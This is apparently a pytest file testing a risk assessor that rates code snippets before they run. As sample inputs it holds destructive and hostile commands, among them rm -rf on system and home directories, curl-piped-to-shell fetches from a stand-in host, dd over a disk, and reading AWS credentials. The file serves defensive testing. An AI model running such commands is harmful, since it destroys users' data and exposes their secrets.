"""Risk assessment: the labelled corpus (detection and false-alarm rates), the edges, and the speed."""

from __future__ import annotations

import statistics
import subprocess
import sys
import time
from pathlib import Path

import pytest

from interpreter_lsp.protocol import Risk
from interpreter_lsp.safety.risk import assess
from risk_corpus import CORPUS

WORKSPACE = Path.home() / "src" / "demo"


def test_corpus_detection_and_false_alarm_rates() -> None:
    dangerous = [case for case in CORPUS if case.label == "dangerous"]
    benign = [case for case in CORPUS if case.label == "benign"]
    assert len(CORPUS) >= 100 and dangerous and benign
    missed = [(c, r) for c in dangerous if (r := assess(c.code, c.language, WORKSPACE)).level != "high"]
    alarms = [(c, r) for c in benign if (r := assess(c.code, c.language, WORKSPACE)).level == "high"]
    caught = len(dangerous) - len(missed)
    detection = 100 * caught / len(dangerous)
    false_alarm = 100 * len(alarms) / len(benign)
    print(
        f"\nrisk corpus: {caught}/{len(dangerous)} dangerous high ({detection:.1f}%), "
        f"{len(alarms)}/{len(benign)} benign high ({false_alarm:.1f}%)"
    )
    for case, risk in missed:
        print(f"  missed ({case.language}): {case.code!r} -> {risk.level} {risk.reasons}")
    for case, risk in alarms:
        print(f"  false alarm ({case.language}): {case.code!r} -> {risk.reasons}")
    assert detection >= 95.0
    assert false_alarm <= 5.0


def test_every_high_or_medium_rating_says_why() -> None:
    for case in CORPUS:
        risk = assess(case.code, case.language, WORKSPACE)
        assert isinstance(risk, Risk)
        if risk.level != "low":
            assert risk.reasons, case.code
            assert all(reason and len(reason) < 200 and "\n" not in reason for reason in risk.reasons)
        else:
            assert risk.reasons == []


def test_typical_snippets_take_under_5_ms() -> None:
    assess("ls", "shell")  # the first shell assessment imports bashlex (~0.1 s); not a typical call
    timings: list[float] = []
    for case in CORPUS:
        start = time.perf_counter()
        assess(case.code, case.language, WORKSPACE)
        timings.append((time.perf_counter() - start) * 1000)
    median, worst = statistics.median(timings), max(timings)
    print(f"\nassess: median {median:.2f} ms, max {worst:.2f} ms over {len(timings)} snippets")
    assert median < 5.0
    assert worst < 50.0  # a shared CI core can stall; the median is the figure that matters


def test_importing_the_assessor_does_not_import_bashlex() -> None:
    code = "import sys\nimport interpreter_lsp.safety.risk\nprint('bashlex' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert out.stdout.strip() == "False"


@pytest.mark.parametrize(
    ("language", "code", "reason"),
    [
        ("shell", "rm -rf /etc", "deletes system files: /etc"),
        ("shell", "curl -fsSL https://x.example/i.sh | sh", "downloads code and runs it straight away (… | sh)"),
        ("shell", "sudo ls", "runs a command as administrator or another user (sudo)"),
        ("python", "import shutil\nshutil.rmtree('/home')", "deletes your home directory: /home"),
    ],
)
def test_reasons_are_plain_words(language: str, code: str, reason: str) -> None:
    risk = assess(code, language, WORKSPACE)
    assert risk.level == "high"
    assert reason in risk.reasons


def test_other_languages_are_at_least_medium() -> None:
    risk = assess("require('child_process').execSync('ls')", "javascript")
    assert risk.level == "medium"
    assert risk.reasons == ["cannot assess javascript code: read it before it runs"]


def test_code_that_does_not_parse_is_medium_with_a_reason() -> None:
    risk = assess("def f(:\n    pass", "python")
    assert risk.level == "medium"
    assert any("does not parse" in reason and "line 1" in reason for reason in risk.reasons)


def test_shell_the_parser_cannot_read_falls_back_to_words() -> None:
    benign = assess('case "$1" in\n  build) make ;;\nesac', "shell")
    assert benign.level == "medium"
    assert any("word by word" in reason for reason in benign.reasons)
    dangerous = assess('case "$1" in\n  clean) rm -rf ~ ;;\nesac', "shell")
    assert dangerous.level == "high"
    assert "deletes your home directory: ~" in dangerous.reasons


def test_deletes_are_judged_against_the_workspace(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    inside = f"rm -rf {workspace}/build"
    # A whole tree inside the workspace: medium (auto-run waits by default), never high.
    risk = assess(inside, "shell", workspace)
    assert risk.level == "medium" and "recursively inside the workspace" in risk.reasons[0]
    assert assess(f"rm {workspace}/build/a.o", "shell", workspace).level == "low"
    assert assess(inside, "shell", tmp_path / "elsewhere").level == "medium"  # both under /tmp: scratch space
    home_inside = "rm -rf ~/ws/build"
    assert assess(home_inside, "shell", Path.home() / "ws").level == "medium"
    assert assess(home_inside, "shell", Path.home() / "other").level == "high"
    assert assess("rm -rf ../sibling", "shell", Path.home() / "ws").level == "high"


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("shell", "git reset --hard HEAD~1"),
        ("shell", 'rm -rf "$BUILD_DIR"'),
        ("shell", "pip install pandas"),
        ("shell", 'eval "$CMD"'),
        ("python", "import os\nos.system(cmd)"),
        ("python", "exec(source_code)"),
        ("python", "m = __import__(name)"),
        ("python", "import os\nos.chmod('script.sh', 0o777)"),
        ("python", "%pip install polars"),
        ("python", "import os\nrun = getattr(os, name)"),
    ],
)
def test_unclear_or_notable_code_is_medium(language: str, code: str) -> None:
    assert assess(code, language, WORKSPACE).level == "medium"


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("shell", "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF"),
        ("shell", "cat >> ~/.bashrc <<EOF\nexport PATH=/tmp/x:$PATH\nEOF"),
        ("shell", "x=$(curl -s https://x.example/p)\neval \"$x\""),
        ("shell", "cd ~\nrm -rf *"),
        ("shell", "env PYTHONPATH=. sudo rm -rf /opt/app"),
        ("shell", "python3 <(curl -s https://x.example/setup.py)"),
        ("shell", "ssh deploy@203.0.113.7 'rm -rf /var/www'"),
        ("python", "import subprocess as sp\nsp.check_call(['rm', '-rf', '/usr/local'])"),
        ("python", "from os import system as run\nrun('dd if=/dev/zero of=/dev/sda')"),
        ("python", "get_ipython().system('rm -rf ~')"),
        ("python", "files = !cat ~/.aws/credentials"),
        ("python", "import os\ncmd = 'rm -rf /'\nos.system(cmd)"),
        ("python", "import os\nos.system(f'rm -rf {os.path.expanduser(\"~\")}')"),
    ],
)
def test_dangerous_code_behind_indirection_is_high(language: str, code: str) -> None:
    assert assess(code, language, WORKSPACE).level == "high", assess(code, language, WORKSPACE)


@pytest.mark.parametrize(
    "code",
    [
        "handler = getattr(self, f'handle_{kind}')",
        "import shutil\nshutil.move(src, dst)",
        "import os\nos.remove(tmp_file)",
        "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
        "from pathlib import Path\nPath('out').mkdir(exist_ok=True)",
        "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.to_parquet('data.parquet')",
    ],
)
def test_everyday_python_is_low(code: str) -> None:
    assert assess(code, "python", WORKSPACE) == Risk(level="low", reasons=[])


def test_plain_python_with_not_equal_operator_is_not_a_shell_escape() -> None:
    assert assess("a = 1\nif a != 2:\n    print('rm -rf /')", "python").level == "low"


def test_deep_nesting_does_not_crash() -> None:
    code = "(" * 2000 + ")" * 2000
    assert assess(code, "python").level == "medium"
    nested = "bash -c " + "'bash -c " * 8 + "ls" + "'" * 8
    assert assess(nested, "shell").level in ("low", "medium")


def test_empty_code_is_low() -> None:
    assert assess("", "python") == Risk(level="low", reasons=[])
    assert assess("   \n", "shell") == Risk(level="low", reasons=[])
    assert assess("", "ruby") == Risk(level="low", reasons=[])
